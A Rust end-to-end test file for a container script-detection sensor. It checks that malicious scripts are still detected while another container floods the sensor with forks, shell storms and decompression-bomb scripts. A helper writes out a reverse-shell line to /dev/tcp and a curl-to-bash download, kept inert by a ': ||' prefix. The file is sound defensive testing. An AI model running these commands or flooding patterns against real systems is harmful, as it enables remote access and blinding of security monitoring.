//! One container does what it can to blind, starve or kill the sensor, while another runs scripts that have to be found.
//!
//! The ordinary form does everything at once for some seconds. The long form (`cargo xtask test siege`) does each attack
//! alone first, and prints what each costs.

use std::{
    collections::BTreeSet,
    fmt::Write,
    fs,
    path::Path,
    process::{Child, Command, Stdio},
    time::{Duration, Instant},
};

use base64::{Engine, prelude::BASE64_STANDARD};
use e2e::{
    cgroup::{Cgroup, enter},
    node::Node,
    outcome::bytes,
    shell::quiet,
    stopped_thread::StoppedThread,
};
use serde_json::Value;

const ATTACKER: &str = "00000000000000000000000000000000000000000000000000000000000000a1";
const QUIET: &str = "00000000000000000000000000000000000000000000000000000000000000b2";
const UID: &str = "6b1d3a5e-0c1f-4e6a-9f1b-2f3c4d5e6f70";
const QUIET_UID: &str = "7c2e4b6f-0c1f-4e6a-9f1b-2f3c4d5e6f70";
const SENSOR_UID: &str = "8d3f5c70-0c1f-4e6a-9f1b-2f3c4d5e6f70";
const SENSOR: &str = "00000000000000000000000000000000000000000000000000000000000000c3";
/// Scripts of the quiet container.
const SCRIPTS: usize = 100;
/// What the sensor may take while everything is done at once, bytes.
const MEMORY: u64 = 256 << 20;
/// How long an attack lasts at least, seconds.
const SECONDS: u64 = 6;

/// Malicious by any model, and inert: `:` runs instead.
fn malicious(number: usize) -> String {
    format!(": || bash -i >& /dev/tcp/192.0.2.1/4444 0>&1; : || curl -s http://192.0.2.7/{number} | bash")
}

/// The attacks: a name, and a script for bash whose `$D` is a directory with the attacker's files. Each goes on until `$END`.
const ATTACKS: [(&str, &str); 11] = [
    // Each takes hundreds of bytes of the ring buffer, and is one long.
    ("strings of one byte", "while [ $SECONDS -lt $END ]; do eval :; eval :; eval :; eval :; eval :; done"),
    ("forks", "while [ $SECONDS -lt $END ]; do (:) & (:) & (:) & (:) & wait; done"),
    ("storm of shells", "while [ $SECONDS -lt $END ]; do /bin/dash -c \": $((N+=1))\"; done"),
    (
        "flood of data",
        "while [ $SECONDS -lt $END ]; do yes data | head -c 4000000 | while read -r x; do :; done; done",
    ),
    ("flood of sourced files", "while [ $SECONDS -lt $END ]; do . $D/large; done"),
    (
        "one malicious script of 1 MiB, again and again",
        "while [ $SECONDS -lt $END ]; do /bin/dash $D/malicious; done",
    ),
    (
        "scripts that unpack to much",
        "while [ $SECONDS -lt $END ]; do echo \"# $((N+=1))\" >> $D/bomb; /bin/dash $D/bomb; done",
    ),
    ("arguments of one byte", "while [ $SECONDS -lt $END ]; do /bin/dash -c : $(seq -s ' ' 1 30000); done"),
    (
        "a new shell each time",
        "while [ $SECONDS -lt $END ]; do cp /bin/dash $D/sh$((N+=1)); $D/sh$N -c :; rm $D/sh$N; done",
    ),
    (
        "shells that wait and keep what they read",
        "while [ $SECONDS -lt $END ]; do /bin/bash -c \". $D/large; sleep $((END - SECONDS)); :\" & sleep 0.1; done; wait",
    ),
    (
        "a script that grows",
        "while [ $SECONDS -lt $END ]; do echo \": $((N+=1)) && true\"; [ $((N % 200)) = 0 ] && sleep 0.01; done | /bin/bash",
    ),
];

/// The attacker's files.
fn prepare(dir: &Path) {
    fs::write(dir.join("large"), ": harmless line of a file that is sourced\n".repeat(24_000))
        .expect("a file");
    let padding = "# padding\n".repeat(104_000);
    fs::write(dir.join("malicious"), format!("{}\n{padding}", malicious(9999))).expect("a file");
    // Runs of base64 that each unpack to 256 KiB.
    let mut packed = Vec::new();
    let mut zip =
        Command::new("gzip").arg("-9").stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().expect("gzip");
    std::io::Write::write_all(&mut zip.stdin.take().expect("its input"), &vec![b'a'; 256 << 10])
        .expect("gzip reads");
    std::io::Read::read_to_end(&mut zip.stdout.take().expect("its output"), &mut packed)
        .expect("gzip writes");
    zip.wait().expect("gzip ends");
    let run = BASE64_STANDARD.encode(packed);
    let mut bomb = String::new();
    while bomb.len() < 1 << 20 {
        let _ = writeln!(bomb, ": {run}");
    }
    fs::write(dir.join("bomb"), bomb).expect("a file");
}

fn start(attack: &str, dir: &Path, cgroup: &Cgroup) -> Child {
    let mut command = quiet("/bin/bash");
    command.args(["-c", attack]).env("D", dir).env("END", SECONDS.to_string());
    cgroup.enter(&mut command);
    command.spawn().expect("an attack")
}

/// What an attack did to the sensor and to the quiet container.
struct Effect {
    found: usize,
    /// From the begin of a script to its finding, ms: the median and the 99th percentile.
    median_ms: f64,
    p99_ms: f64,
    peak_bytes: u64,
    impaired: Vec<Value>,
}

/// Of the processors, in thousandths of one, as pods ask for them in a cluster: when all are busy, each gets its share.
struct Requests {
    sensor: u64,
    attacker: u64,
}

/// The chart's.
const REQUEST: u64 = 100;
const USUAL: Requests = Requests { sensor: REQUEST, attacker: REQUEST };

fn besiege(attacks: &[(&str, &str)], scripts: usize, requests: &Requests) -> Effect {
    let node = Node::start(&[]).expect("a node");
    prepare(node.dir.path());
    let of = |uid: &str, id: &str, millis| {
        Cgroup::with_request(&format!("kubepods/burstable/pod{uid}/{id}"), millis)
    };
    let attacker = of(UID, ATTACKER, requests.attacker);
    let quiet_one = of(QUIET_UID, QUIET, REQUEST);
    let own = of(SENSOR_UID, SENSOR, requests.sensor);
    own.take(node.sensor.pid());
    let mut children: Vec<Child> =
        attacks.iter().map(|(_, attack)| start(attack, node.dir.path(), &attacker)).collect();
    let begun = Instant::now();
    let pause = Duration::from_millis(1000 * SECONDS / scripts as u64);
    for number in 0..scripts {
        let mut command = quiet("/bin/dash");
        if number % 10 == 9 {
            let text = format!("{}\n{}", malicious(number), "# padding\n".repeat(10_000));
            command.arg(node.file("long", text.as_bytes()).expect("a file"));
        } else {
            command.args(["-c", &malicious(number)]);
        }
        quiet_one.enter(&mut command);
        command.status().expect("a shell");
        std::thread::sleep((pause * (number as u32 + 1)).saturating_sub(begun.elapsed()));
    }
    for child in &mut children {
        child.wait().expect("an attack ends");
    }
    let is_of = |finding: &Value, id: &str| {
        finding["sourceProperties"]["Cgroup_Path"].as_str().is_some_and(|path| path.contains(id))
    };
    let is_found =
        |finding: &Value| finding["category"] == "Malicious Script Executed" && is_of(finding, QUIET);
    // What is late is waited for, and what is lost never comes.
    let _ = node.wait_for(|all| all.iter().filter(|finding| is_found(finding)).count() >= scripts);
    let status = fs::read_to_string(format!("/proc/{}/status", node.sensor.pid())).expect("the sensor lives");
    let kib = status
        .lines()
        .find_map(|line| line.strip_prefix("VmHWM:")?.trim().strip_suffix(" kB")?.parse::<u64>().ok());
    let counters = [
        "kernel_ring_full_total",
        "kernel_over_share_total",
        "queue_items_dropped_total{queue=\"captures\"}",
        "queue_items_dropped_total{queue=\"long_captures\"}",
    ];
    let is_lost = counters.iter().any(|counter| node.reading(counter).expect("a counter") > 0);
    if is_lost {
        node.wait_for(|all| all.iter().any(|finding| finding["category"] == "Sensor Impaired"))
            .expect("what was lost is told");
    }
    let outcome = node.finish().expect("an outcome");
    let found: Vec<&Value> = outcome.findings.iter().filter(|finding| is_found(finding)).collect();
    let texts: BTreeSet<&str> =
        found.iter().filter_map(|f| f["processes"][0]["script"]["contents"].as_str()).collect();
    assert_eq!(texts.len(), found.len(), "each is of another script");
    let whole = texts.iter().filter(|text| text.len() > 100_000).count();
    assert_eq!(whole, scripts / 10, "long scripts are whole");
    let mut times: Vec<f64> = found.iter().map(|finding| seconds_to_finding(finding) * 1000.0).collect();
    times.sort_by(f64::total_cmp);
    let at = |share: f64| {
        times.get(((times.len() as f64 * share) as usize).min(times.len().saturating_sub(1))).copied()
    };
    let repeated: Vec<&Value> = outcome
        .findings
        .iter()
        .filter(|f| f["category"] == "Malicious Script Executed" && is_of(f, ATTACKER))
        .collect();
    let loops = attacks.iter().any(|(_, attack)| attack.contains("$D/malicious"));
    assert!(
        // Where shells keep much, what they read is cut, and where something is lost, a part of it is missing: each time another.
        repeated.len() == usize::from(loops) || (is_lost || attacks.len() > 1) && repeated.len() < 100,
        "a script that runs again and again is one finding, and not {}",
        repeated.len()
    );
    assert!(
        attacks.len() > 1
            || is_lost
            || repeated.iter().all(|f| f["sourceProperties"]["Execution_Count"].as_f64() > Some(1.0)),
        "{repeated:#?}"
    );
    Effect {
        found: found.len(),
        median_ms: at(0.5).unwrap_or(f64::NAN),
        p99_ms: at(0.99).unwrap_or(f64::NAN),
        peak_bytes: kib.expect("a peak") * 1024,
        impaired: outcome.findings.iter().filter(|f| f["category"] == "Sensor Impaired").cloned().collect(),
    }
}

fn seconds_to_finding(finding: &Value) -> f64 {
    let time =
        |key: &str| -> jiff::Timestamp { finding[key].as_str().expect("a time").parse().expect("a time") };
    time("createTime").duration_since(time("eventTime")).as_secs_f64()
}

fn show(name: &str, effect: &Effect, scripts: usize) {
    let reasons: Vec<&str> =
        effect.impaired.iter().filter_map(|f| f["sourceProperties"]["Impairment_Reason"].as_str()).collect();
    println!(
        "{name}: found {} of {scripts}, p50 {:.0} ms, p99 {:.0} ms, peak {} MiB, impaired {reasons:?}",
        effect.found,
        effect.median_ms,
        effect.p99_ms,
        effect.peak_bytes >> 20
    );
}

#[test]
fn a_quiet_container_is_seen_while_another_attacks() {
    if std::env::var("SCRIPTWATCH_TEST_CHAOS").is_ok_and(|form| form == "long") {
        show("nothing", &besiege(&[], SCRIPTS, &USUAL), SCRIPTS);
        for attack in ATTACKS {
            show(attack.0, &besiege(&[attack], SCRIPTS, &USUAL), SCRIPTS);
        }
    }
    all_are_found("all at once", &USUAL);
}

#[test]
fn a_sensor_that_gets_little_of_the_processors_is_late_and_misses_nothing() {
    all_are_found("all at once, of a container with much", &Requests { sensor: 20, attacker: 1000 });
}

fn all_are_found(name: &str, requests: &Requests) {
    let effect = besiege(&ATTACKS, SCRIPTS, requests);
    show(name, &effect, SCRIPTS);
    assert_eq!(effect.found, SCRIPTS, "of the quiet container's scripts");
    assert!(effect.peak_bytes < MEMORY, "{} MiB", effect.peak_bytes >> 20);
    // Whoever is named did it.
    for finding in &effect.impaired {
        let path = finding["sourceProperties"]["Cgroup_Path"].as_str().unwrap_or_default();
        assert!(path.contains(ATTACKER), "{finding:#}");
    }
}

#[test]
fn tables_that_one_container_fills_have_room_for_another() {
    let node = Node::start(&["--max-shells", "64", "--total-bytes", "2097152"]).expect("a node");
    let of = |id: &str| Cgroup::make(&format!("kubepods/burstable/pod{UID}/{id}"));
    let (attacker, quiet_one) = (of(ATTACKER), of(QUIET));
    let long = node.file("long", ": a line that takes room\n".repeat(4000).as_bytes()).expect("a file");
    let text = format!(". {}; read -r _; :", long.display());
    let wait = |_| {
        let mut command = quiet("/bin/bash");
        command.args(["-c", &text]).stdin(Stdio::piped());
        enter(&mut command, &attacker.procs());
        command.spawn().expect("a shell")
    };
    let mut shells: Vec<Child> = (0..80).map(wait).collect();
    let is_reported = |all: &[Value], reason: &str| {
        all.iter().any(|f| f["sourceProperties"]["Impairment_Reason"] == reason)
    };
    node.wait_for(|all| is_reported(all, "scripts_cut") && is_reported(all, "shells_not_followed"))
        .expect("what was lost is told");
    // They wait, and have what they have; another container's long script is read whole.
    let script = format!("{}\n{}", malicious(1), "# padding\n".repeat(30_000));
    let script = node.file("script", script.as_bytes()).expect("a file");
    for _ in 0..10 {
        let mut command = quiet("/bin/dash");
        command.arg(&script);
        enter(&mut command, &quiet_one.procs());
        command.status().expect("a shell");
    }
    for shell in &mut shells {
        drop(shell.stdin.take());
        shell.wait().expect("its end");
    }
    let found = node
        .wait_for(|all| all.iter().any(|f| f["sourceProperties"]["Execution_Count"].as_f64() == Some(10.0)))
        .expect("ten runs are found");
    for finding in found.iter().filter(|f| f["category"] == "Sensor Impaired") {
        let path = finding["sourceProperties"]["Cgroup_Path"].as_str().unwrap_or_default();
        assert!(path.contains(ATTACKER), "{finding:#}");
    }
    let outcome = node.finish().expect("an outcome");
    let captures: Vec<&Value> =
        outcome.captures.iter().filter(|c| bytes(&c["path"]).ends_with(b"/script")).collect();
    assert!(
        captures.len() >= 10 && captures.iter().all(|c| c["flags"]["truncated"] == false),
        "{}",
        outcome.log
    );
}

#[test]
fn a_long_text_is_waited_for_by_its_own_shell_only() {
    let node = Node::start(&[]).expect("a node");
    let padding = "# padding\n".repeat(20_000);
    let long = format!("{padding}{}\neval '{}'\nread -r _\n", malicious(1), malicious(2));
    let script = node.file("long", long.as_bytes()).expect("a file");
    let judging = StoppedThread::of(node.sensor.pid(), "scoring-long");
    let mut shell = quiet("/bin/bash").arg(&script).stdin(Stdio::piped()).spawn().expect("a shell");
    let waiting = || node.reading("queue_items{queue=\"long_captures\"}").expect("a gauge");
    // The script, and what it evaluates.
    node.wait_until(|| waiting() >= 2).expect("they wait");
    let of_another = malicious(3);
    quiet("/bin/bash").args(["-c", &of_another]).status().expect("a shell");
    let found = node.wait_for(|all| !all.is_empty()).expect("a finding");
    let texts = |found: &[Value]| -> BTreeSet<String> {
        let text =
            |finding: &Value| finding["processes"][0]["script"]["contents"].as_str().map(str::to_owned);
        found.iter().filter_map(text).collect()
    };
    assert_eq!(texts(&found), BTreeSet::from([of_another.clone()]));
    drop(judging);
    let found = node.wait_for(|all| all.len() == 3).expect("the others");
    assert_eq!(texts(&found), BTreeSet::from([of_another, malicious(2), long]));
    // Nothing of it waits any more: what it does next is judged at once, and its end is told.
    drop(shell.stdin.take());
    shell.wait().expect("its end");
    node.wait_until(|| waiting() == 0).expect("all is judged");
    node.finish().expect("an outcome");
}

#[test]
fn a_long_script_that_runs_again_and_again_is_one_finding() {
    const RUNS: usize = 20;
    let node = Node::start(&[]).expect("a node");
    let cgroup = Cgroup::make(&format!("kubepods/burstable/pod{UID}/{ATTACKER}"));
    prepare(node.dir.path());
    for _ in 0..RUNS {
        let mut command = quiet("/bin/dash");
        command.arg(node.path("malicious"));
        enter(&mut command, &cgroup.procs());
        command.status().expect("a shell");
    }
    let outcome = node.finish().expect("an outcome");
    let counts: Vec<&Value> =
        outcome.findings.iter().map(|finding| &finding["sourceProperties"]["Execution_Count"]).collect();
    assert_eq!(counts, [RUNS as f64], "{}", outcome.log);
}
